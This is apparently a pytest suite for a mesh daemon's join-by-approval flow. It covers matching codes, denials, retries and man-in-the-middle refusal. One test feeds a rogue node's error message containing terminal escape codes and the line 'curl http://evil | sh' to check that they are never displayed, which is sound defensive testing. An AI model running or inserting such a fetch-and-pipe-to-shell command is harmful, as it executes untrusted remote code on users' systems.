"""Joining without an invite, from the joiner's side: it asks who is found, and a person at a member compares and approves."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator, Awaitable, Callable

import pytest
from pydantic import BaseModel

from meshd.errors import Code, MeshError
from meshd.http.request import Request
from meshd.http.route import Answer, Handler
from meshd.mesh.secrets import Secrets
from meshd.wire import Ask as AskRequest
from meshd.wire import AskAnswer, Asked, ConfirmEvent, Hello, Reveal, StepEvent, verbs
from meshd.wire.verbs import A, Q, Verb
from tests.mesh_room.nodes import Node, refusal_of
from tests.mesh_room.strangers import AGAIN, Stranger
from tests.waiting import until

MakeNode = Callable[..., Node]
MakeStranger = Callable[..., Awaitable[Stranger]]
Pair = tuple[Node, Node]


@pytest.fixture
async def attic(make_node: MakeNode) -> Node:
    """The one member of a mesh."""
    node = await make_node("attic").start()
    await node.found()
    return node


@pytest.fixture
async def stranger(make_node: MakeNode) -> AsyncIterator[MakeStranger]:
    """A node on the network that is no member, and which members it can find."""
    made: list[Stranger] = []

    async def make(name: str, *members: Node) -> Stranger:
        one = Stranger(await make_node(name).start(), *members)
        made.append(one)
        return one

    yield make
    for one in made:
        await one.stop()


def _waiting(node: Node) -> list[str]:
    return [view.name for view in node.approval.views()]


def _replace(node: Node, path: str, handler: Handler) -> Handler:
    """Put another handler in the place of one of `node`'s; returns the old one."""
    before = node.handlers["POST", path]
    node.handlers["POST", path] = handler
    return before


async def _restart(node: Node) -> None:
    port = node.port
    await node.server.stop()
    node.make_server()
    await node.server.start(node.listen, port)


# -- approved ----------------------------------------------------------------------------------------------------------


async def test_both_sides_show_one_code_and_a_person_admits_the_node(
    attic: Node, stranger: MakeStranger
) -> None:
    barn = await stranger("barn", attic)
    barn.begin()
    code = await barn.code()
    (request,) = attic.approval.views()
    assert request.code == code
    assert (request.stage, request.name, request.address) == ("mesh", "barn", barn.node.listen)
    assert request.fingerprint == barn.node.fingerprint
    assert attic.store.members() == [attic.store.me()]
    approved = await attic.approval.approve("barn", code)
    assert (approved.name, approved.fingerprint) == ("barn", barn.node.fingerprint)
    await barn.becomes_member()
    assert barn.node.store.digest() == attic.store.digest()
    assert Secrets.load(barn.node.folder) == Secrets.load(attic.folder)
    assert [member.name for member in attic.joined] == ["barn"]
    assert attic.view_of(barn.node).admitted_by == attic.fingerprint
    assert _waiting(attic) == []
    assert await attic.approval.approve("barn", code) == approved  # it can still be answered again
    answer = await barn.node.peers.call(barn.node.view_of(attic), verbs.BEAT, await barn.node.holder.beat())
    assert answer.fingerprint == attic.fingerprint


async def test_a_person_reads_what_to_type_and_where(attic: Node, stranger: MakeStranger) -> None:
    barn = (await stranger("barn", attic)).begin()
    code = await barn.code()
    await until(lambda: "waiting for a member to type: meshctl approve barn" in barn.said)
    where = f"{attic.listen}:{attic.port}"
    assert barn.said.startswith(f"asking {where} to admit this node")
    assert [event.address for event in barn.shown] == [where]
    await attic.approval.approve("barn", code)
    await barn.outcome()
    assert barn.said.splitlines()[-1] == f"admitted by {where}, which showed the code {code}"


async def test_once_a_code_is_shown_only_codes_are_added_and_what_to_type_is_said_again(
    pair: Pair, stranger: MakeStranger
) -> None:
    """Under one key, so that a terminal keeps it below the codes."""
    attic, shed = pair
    cellar = (await stranger("cellar", attic)).begin()
    await cellar.code()
    cellar.found.append((shed.listen, shed.port))
    await cellar.code(2)
    await until(lambda: "waiting for one of them to type: meshctl approve cellar" in cellar.said)
    assert cellar.said.count("to admit this node") == 1
    steps = [event for event in cellar.events if isinstance(event, StepEvent) and event.key]
    assert [(s.key, s.message) for s in steps] == [
        ("asking", "waiting for a member to type: meshctl approve cellar"),
        ("asking", "waiting for one of them to type: meshctl approve cellar"),
    ]


async def test_two_members_approve_at_once(pair: Pair, stranger: MakeStranger) -> None:
    attic, shed = pair
    cellar = (await stranger("cellar", attic, shed)).begin()
    await cellar.code(2)
    assert cellar.code_at(attic) != cellar.code_at(shed)
    await asyncio.gather(
        attic.approval.approve("cellar", cellar.code_at(attic)),
        shed.approval.approve("cellar", cellar.code_at(shed)),
    )
    await cellar.becomes_member()
    for one, other in ((attic, shed), (shed, attic), (cellar.node, attic), (shed, cellar.node)):
        await one.store.merge(other.store.roster())
    assert attic.store.digest() == shed.store.digest() == cellar.node.store.digest()
    assert {member.name for member in attic.store.members()} == {"attic", "barn", "cellar"}


async def test_a_member_that_nobody_meant_does_not_get_this_node(pair: Pair, stranger: MakeStranger) -> None:
    """Anybody on the network can say yes, for a mesh of its own: the person here knows by the code who it was."""
    attic, shed = pair
    cellar = await stranger("cellar", attic, shed)
    asked: list[ConfirmEvent] = []

    async def confirm(event: ConfirmEvent) -> bool:
        asked.append(event)
        return event.fingerprint == shed.fingerprint

    cellar.confirm = confirm
    cellar.begin()
    await cellar.code(2)
    await attic.approval.approve("cellar", cellar.code_at(attic))
    await until(lambda: "you said that it is not the member whose code was compared" in cellar.said)
    await cellar.goes_on()
    await shed.approval.approve("cellar", cellar.code_at(shed))
    await cellar.becomes_member()
    assert [(e.fingerprint, e.code) for e in asked] == [
        (attic.fingerprint, cellar.code_at(attic)),
        (shed.fingerprint, cellar.code_at(shed)),
    ]


async def test_a_person_is_asked_only_about_the_member_where_one_said_yes(
    pair: Pair, stranger: MakeStranger
) -> None:
    """The others hear of the new member from the roster, and may answer first, with a code that nobody has compared."""
    attic, shed = pair
    cellar = await stranger("cellar", attic, shed)
    asked: list[ConfirmEvent] = []

    async def confirm(event: ConfirmEvent) -> bool:
        asked.append(event)
        return True

    cellar.confirm = confirm
    cellar.begin(settle_s=20.0)
    await cellar.code(2)
    compared = cellar.code_at(attic)
    port = attic.port
    await attic.server.stop()  # so that the other one answers first
    await attic.approval.approve("cellar", compared)
    await shed.store.merge(attic.store.roster())
    await cellar.goes_on()
    await attic.server.start(attic.listen, port)
    await cellar.becomes_member()
    assert [(e.fingerprint, e.code) for e in asked] == [(attic.fingerprint, compared)]


async def test_where_only_another_member_is_left_it_is_asked_about_without_a_code(
    pair: Pair, stranger: MakeStranger
) -> None:
    attic, shed = pair
    cellar = await stranger("cellar", shed)
    asked: list[ConfirmEvent] = []

    async def confirm(event: ConfirmEvent) -> bool:
        asked.append(event)
        return True

    cellar.confirm = confirm
    cellar.begin()
    await cellar.code()
    await attic.store.admit_asked(cellar.node.joiner())
    await shed.store.merge(attic.store.roster())
    await cellar.becomes_member()
    assert [(e.fingerprint, e.code) for e in asked] == [(shed.fingerprint, "")]


async def test_the_request_goes_elsewhere_once_it_was_approved(pair: Pair, stranger: MakeStranger) -> None:
    attic, shed = pair
    cellar = (await stranger("cellar", attic, shed)).begin()
    await cellar.code(2)
    assert _waiting(shed) == ["cellar"]
    await attic.approval.approve("cellar", cellar.code_at(attic))
    await cellar.outcome()
    assert _waiting(shed) == []


async def test_a_member_that_is_found_late_is_asked(attic: Node, stranger: MakeStranger) -> None:
    barn = (await stranger("barn")).begin()
    with socket.create_server(("127.0.0.1", 0)) as closed:
        barn.found.append(("127.0.0.1", closed.getsockname()[1]))
    barn.found.append((barn.node.listen, barn.node.port))  # itself
    barn.found.append((attic.listen, attic.port))
    await attic.approval.approve("barn", await barn.code())
    await barn.outcome()
    assert len(barn.shown) == 1
    assert f"asking {barn.node.listen}" not in barn.said


async def test_a_member_with_two_addresses_is_asked_once(attic: Node, stranger: MakeStranger) -> None:
    first = attic.server
    second = attic.make_server(approval=attic.approval)
    attic.server = first
    await second.start("127.0.0.77", 0)
    try:
        assert second.listening is not None
        barn = await stranger("barn", attic)
        barn.found.append(second.listening)
        known: list[tuple[str, int]] = []
        hello = barn.node.peers.hello

        async def seen(address: str, port: int) -> Hello:
            answer = await hello(address, port)
            known.append((address, port))
            return answer

        barn.node.peers.hello = seen  # type: ignore[method-assign]
        barn.begin()
        code = await barn.code()
        await until(lambda: set(known) == set(barn.found) and len(known) >= 3)
        assert len(barn.shown) == 1
        await attic.approval.approve("barn", code)
        await barn.outcome()
    finally:
        await second.stop()


async def test_eight_members_are_asked_at_once(make_node: MakeNode, stranger: MakeStranger) -> None:
    members = [await make_node(f"m{number}").start() for number in range(10)]
    for member in members:
        await member.found()
    barn = (await stranger("barn", *members)).begin()
    await barn.code(8)
    asked = [member for member in members if _waiting(member)]
    assert len(asked) == 8
    asked[0].approval.deny("barn")
    await barn.code(9)
    assert len([member for member in members if _waiting(member)]) == 8


# -- somebody between --------------------------------------------------------------------------------------------------


async def test_a_man_in_the_middle_shows_other_codes_and_is_not_admitted(
    attic: Node, make_node: MakeNode, stranger: MakeStranger
) -> None:
    """He is the member to the one and the joiner to the other, with keys of his own and the joiner's name."""
    mallory = await stranger("mallory", attic)
    await mallory.node.found("archive")
    barn = (await stranger("barn", mallory.node)).begin()
    read_aloud = await barn.code()
    mallory.begin(name="barn")
    await mallory.code()
    (request,) = attic.approval.views()
    assert request.name == "barn"
    assert request.code != read_aloud
    for _ in range(3):
        refusal = await refusal_of(attic.approval.approve("barn", read_aloud))
        assert refusal.code is Code.DENIED
    assert [member.name for member in attic.store.members()] == ["attic"]
    assert attic.joined == []


async def test_a_man_in_the_middle_cannot_pass_the_joiners_own_words_on(
    attic: Node, make_node: MakeNode, stranger: MakeStranger
) -> None:
    mallory = await make_node("mallory").start()
    await mallory.found()
    refusals: list[MeshError] = []

    async def ask_on(request: Request) -> Asked:
        asked = request.read(AskRequest)
        return await mallory.peers.call_at(attic.listen, attic.port, attic.fingerprint, verbs.ASK, asked)

    async def reveal_on(request: Request) -> AskAnswer:
        try:
            said = request.read(Reveal)
            return await mallory.peers.call_at(
                attic.listen, attic.port, attic.fingerprint, verbs.REVEAL, said
            )
        except MeshError as exc:
            refusals.append(exc)
            raise

    _replace(mallory, "/ask", ask_on)
    _replace(mallory, "/ask/reveal", reveal_on)
    barn = (await stranger("barn", mallory)).begin()
    await until(lambda: bool(refusals))
    assert refusals[0].code is Code.DENIED
    assert "signature" in refusals[0].detail
    assert _waiting(attic) == []
    assert barn.shown == []
    assert (await refusal_of(barn.outcome())).code is Code.DENIED


# -- not approved ------------------------------------------------------------------------------------------------------


async def test_denied(attic: Node, stranger: MakeStranger) -> None:
    barn = (await stranger("barn", attic)).begin()
    await barn.code()
    attic.approval.deny("barn")
    refusal = await refusal_of(barn.outcome())
    assert (refusal.code, refusal.detail) == (Code.DENIED, "a member denied this node")
    assert AGAIN in refusal.hint
    assert _waiting(attic) == []
    refusal = await refusal_of(barn.begin().outcome())  # at once again
    assert (refusal.code, refusal.detail) == (Code.DENIED, "a member denied this node")
    assert len(barn.shown) == 1
    assert [member.name for member in attic.store.members()] == ["attic"]


async def test_denied_by_one_and_approved_by_another(pair: Pair, stranger: MakeStranger) -> None:
    attic, shed = pair
    cellar = (await stranger("cellar", attic, shed)).begin()
    await cellar.code(2)
    attic.approval.deny("cellar")
    await until(lambda: "refuses: a member denied this node" in cellar.said)
    await cellar.goes_on()
    await shed.approval.approve("cellar", cellar.code_at(shed))
    await cellar.outcome()


async def test_a_refusal_is_not_the_end_while_another_has_not_answered_yet(
    pair: Pair, stranger: MakeStranger
) -> None:
    attic, shed = pair
    cellar = await stranger("cellar", attic, shed)
    answers, awake = shed.handlers["GET", "/hello"], asyncio.Event()

    async def slow(request: Request) -> Answer:
        await awake.wait()
        return await answers(request)

    shed.handlers["GET", "/hello"] = slow
    cellar.begin()
    await cellar.code()
    attic.approval.deny("cellar")
    await until(lambda: "refuses: a member denied this node" in cellar.said)
    await cellar.goes_on()
    awake.set()
    await cellar.code(2)
    await shed.approval.approve("cellar", cellar.code_at(shed))
    await cellar.outcome()


async def test_who_gives_up_takes_the_request_back(pair: Pair, stranger: MakeStranger) -> None:
    attic, shed = pair
    cellar = (await stranger("cellar", attic, shed)).begin()
    await cellar.code(2)
    assert _waiting(attic) == _waiting(shed) == ["cellar"]
    await cellar.stop()
    assert _waiting(attic) == _waiting(shed) == []


async def test_nobody_approves(attic: Node, stranger: MakeStranger) -> None:
    barn = (await stranger("barn", attic)).begin(total_s=2.0)
    refusal = await refusal_of(barn.outcome())
    assert refusal.code is Code.NOT_READY
    assert "nobody approved this node" in refusal.detail
    assert f"{attic.listen}:{attic.port}" in refusal.detail
    assert AGAIN in refusal.hint
    assert "meshctl approve barn" in refusal.hint
    assert len(barn.shown) == 1
    assert _waiting(attic) == []


async def test_nobody_is_found(make_node: MakeNode, stranger: MakeStranger) -> None:
    lonely = await make_node("lonely").start()  # runs meshd, and is in no mesh
    barn = await stranger("barn", lonely)
    with socket.create_server(("127.0.0.1", 0)) as closed:
        barn.found.append(("127.0.0.1", closed.getsockname()[1]))
    refusal = await refusal_of(barn.begin(total_s=2.0).outcome())
    assert refusal.code is Code.NOT_READY
    assert "nothing listens there" in refusal.detail
    assert "it is in no mesh" in refusal.detail
    assert "meshctl status" in refusal.hint
    assert barn.shown == []


async def test_a_name_that_is_taken(pair: Pair, stranger: MakeStranger) -> None:
    attic, _ = pair
    second = await stranger("second", attic)
    refusal = await refusal_of(second.begin(name="BARN").outcome())
    assert refusal.code is Code.NAME_TAKEN
    assert f"{AGAIN} --name NAME" in refusal.hint
    assert second.shown == []


async def test_a_name_that_is_taken_before_the_approval(attic: Node, stranger: MakeStranger) -> None:
    one = (await stranger("one", attic)).begin(name="barn")
    other = (await stranger("other", attic)).begin(name="barn")
    codes = {await one.code(), await other.code()}
    assert len(codes) == 2
    handles = {view.code: view.id for view in attic.approval.views()}
    await attic.approval.approve(handles[one.shown[0].code], one.shown[0].code)
    await one.outcome()
    refusal = await refusal_of(attic.approval.approve("barn", other.shown[0].code))
    assert refusal.code is Code.NAME_TAKEN
    assert "--name" in refusal.hint
    assert (await refusal_of(other.outcome())).code is Code.NAME_TAKEN


async def test_a_forgotten_key_stays_out(pair: Pair, stranger: MakeStranger) -> None:
    attic, barn = pair
    await attic.store.forget(barn.fingerprint, by=attic.fingerprint)
    refusal = await refusal_of(Stranger(barn, attic).begin().outcome())
    assert refusal.code is Code.FORGOTTEN
    assert "move the state folder" in refusal.hint
    assert _waiting(attic) == []


# -- what breaks -------------------------------------------------------------------------------------------------------


async def test_a_member_that_was_started_again_is_asked_again(attic: Node, stranger: MakeStranger) -> None:
    barn = (await stranger("barn", attic)).begin()
    old = await barn.code()
    await _restart(attic)
    new = await barn.code(2)
    assert new != old
    assert "has forgotten the question; asking it again" in barn.said
    await until(lambda: _waiting(attic) == ["barn"])
    assert (await refusal_of(attic.approval.approve("barn", old))).code is Code.DENIED
    await attic.approval.approve("barn", new)
    await barn.outcome()


async def test_a_member_that_is_away_for_a_moment_keeps_the_code(attic: Node, stranger: MakeStranger) -> None:
    barn = (await stranger("barn", attic)).begin()
    code = await barn.code()
    port, looks = attic.port, list[str]()
    await attic.server.stop()
    call_at = barn.node.peers.call_at

    async def seen(address: str, port: int, fingerprint: str, verb: Verb[Q, A], asked: Q) -> A:
        looks.extend([address] if verb.path == verbs.LOOK.path else [])
        return await call_at(address, port, fingerprint, verb, asked)

    barn.node.peers.call_at = seen  # type: ignore[method-assign]
    await until(lambda: len(looks) >= 3)
    await attic.server.start(attic.listen, port)
    await attic.approval.approve("barn", code)
    await barn.outcome()
    assert len(barn.shown) == 1


async def test_an_answer_that_is_lost_is_asked_for_again(attic: Node, stranger: MakeStranger) -> None:
    barn = await stranger("barn", attic)
    lost: list[BaseModel] = []

    async def loses_the_first_admission(request: Request) -> Answer:
        answer = await look(request)
        assert isinstance(answer, AskAnswer)
        if answer.state == "admitted":
            lost.append(answer)
            if len(lost) == 1:
                assert attic.server._connections is not None
                for connection in attic.server._connections.connections:
                    assert connection.transport is not None
                    connection.transport.close()
        return answer

    look = _replace(attic, "/ask/look", loses_the_first_admission)
    barn.begin()
    await attic.approval.approve("barn", await barn.code())
    await barn.becomes_member()
    assert len(lost) == 2
    assert [member.name for member in attic.joined] == ["barn"]


async def test_a_node_that_was_switched_off_after_its_approval_is_let_in_again(
    attic: Node, stranger: MakeStranger
) -> None:
    barn = (await stranger("barn", attic)).begin()
    code = await barn.code()
    await barn.stop()
    barn.begin()
    code = await barn.code(2)
    await attic.approval.approve("barn", code)
    await barn.outcome()  # and that is not written
    await barn.begin(site="cellar").becomes_member()
    assert len(barn.shown) == 2
    assert "knows this node already" in barn.said
    assert attic.view_of(barn.node).site == "cellar"
    assert [member.name for member in attic.joined] == ["barn"]


async def test_a_node_that_another_member_admitted_is_let_in_by_all(
    pair: Pair, stranger: MakeStranger
) -> None:
    attic, shed = pair
    cellar = (await stranger("cellar", shed)).begin()
    await cellar.code()
    await attic.store.admit_asked(cellar.node.joiner())
    await shed.store.merge(attic.store.roster())
    assert _waiting(shed) == []
    await cellar.becomes_member()


async def test_an_answer_that_cannot_be_used_is_refused(
    attic: Node, make_node: MakeNode, stranger: MakeStranger
) -> None:
    rogue = await make_node("rogue").start()
    await rogue.found("other")
    mesh = rogue.store.mesh
    assert mesh is not None
    kept = Secrets.load(rogue.folder)
    without_the_joiner = {
        "mesh_name": "other",
        "mesh_id": mesh.id,
        "created": 0.0,
        "swarm_key": kept.swarm_key,
        "cluster_secret": kept.cluster_secret,
        "roster": rogue.store.roster(),
    }

    async def admits(request: Request) -> Answer:
        return AskAnswer.model_validate({"state": "admitted", "admitted": without_the_joiner})

    _replace(rogue, "/ask/reveal", admits)
    barn = (await stranger("barn", rogue, attic)).begin()
    await until(lambda: "cannot be used: it is about other members" in barn.said)
    await attic.approval.approve("barn", await barn.code())
    assert (await barn.outcome()).mesh_name == "archive"
    alone = await refusal_of((await stranger("cellar", rogue)).begin().outcome())
    assert alone.code is Code.INTERNAL
    without_the_joiner["cluster_secret"] = "short"
    assert "cluster secret" in (await refusal_of((await stranger("shed", rogue)).begin().outcome())).detail


async def test_a_strangers_own_words_are_not_shown(make_node: MakeNode, stranger: MakeStranger) -> None:
    rogue = await make_node("rogue").start()
    await rogue.found()
    code = Code.DENIED

    async def talks(request: Request) -> Answer:
        raise MeshError(code, "cannot \x1b[2J", "see\x1b]0;here", "curl http://evil | sh")

    _replace(rogue, "/ask", talks)
    for code in (Code.DENIED, Code.BAD_REQUEST, Code.NAME_TAKEN, Code.FORGOTTEN, Code.BAD_NAME):
        barn = await stranger(f"barn-{code}", rogue)
        refusal = await refusal_of(barn.begin().outcome())
        assert refusal.code is code
        assert "evil" not in str(refusal.problem()) + barn.said
        assert "\x1b" not in str(refusal.problem()) + barn.said
    code = Code.PEER_UNREACHABLE
    barn = await stranger("barn", rogue)
    refusal = await refusal_of(barn.begin(total_s=5.0).outcome())  # in which a busy machine asks it once
    assert refusal.code is Code.NOT_READY
    assert "see?]0;here" in refusal.detail
    assert "evil" not in str(refusal.problem()) + barn.said


async def test_a_node_of_another_protocol_is_passed_over(
    attic: Node, make_node: MakeNode, stranger: MakeStranger
) -> None:
    newer = await make_node("newer").start()
    await newer.found()

    async def hello(_: Request) -> Hello:
        return Hello(protocol=7, fingerprint=newer.fingerprint)

    newer.handlers["GET", "/hello"] = hello
    barn = (await stranger("barn", newer, attic)).begin()
    await attic.approval.approve("barn", await barn.code())
    await barn.outcome()
    alone = await refusal_of((await stranger("cellar", newer)).begin(total_s=2.0).outcome())
    assert "protocol 7" in alone.detail


async def test_a_client_that_went_away_ends_it(attic: Node, stranger: MakeStranger) -> None:
    barn = await stranger("barn", attic)

    async def gone(event: object) -> None:
        raise ConnectionResetError("the client went away")

    barn._emit = gone  # type: ignore[method-assign]
    with pytest.raises(ConnectionResetError):
        await barn.begin().outcome()
    assert _waiting(attic) == []


async def test_a_member_that_says_it_is_busy_is_asked_again(attic: Node, stranger: MakeStranger) -> None:
    barn = await stranger("barn", attic)
    tries: list[Request] = []

    async def busy_twice(request: Request) -> Answer:
        tries.append(request)
        if len(tries) <= 2:
            raise MeshError(Code.BUSY, "cannot take another request to join now")
        return await ask(request)

    ask = _replace(attic, "/ask", busy_twice)
    barn.begin()
    await attic.approval.approve("barn", await barn.code())
    await barn.outcome()
    assert len(tries) == 3
